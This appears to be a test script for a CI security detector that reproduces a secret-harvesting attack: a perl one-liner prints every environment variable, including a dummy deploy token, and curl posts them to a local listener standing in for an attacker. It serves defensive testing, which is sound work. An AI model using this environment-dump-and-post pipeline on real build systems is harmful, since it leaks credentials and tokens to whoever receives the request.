#!/bin/bash
# technique: T1552.001 Unsecured Credentials (CI secrets in the environment); T1041 Exfiltration Over C2 Channel
# reproduces: the environment-harvesting step of CI compromises rewritten for hosts without env or python: a perl one-liner prints %ENV and curl posts it (variants of the pwn-request exfiltration payloads)
# expect: environment-sent-to-network ^curl$
# exec-borne: no
set -u
command -v perl >/dev/null || exit 77

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

perl -e 'print map { "$_=$ENV{$_}\n" } sort keys %ENV' |
	curl -s -o /dev/null --connect-timeout 5 --data-binary @- "http://127.0.0.1:${BW_ATTACK_PORT:?}/env"
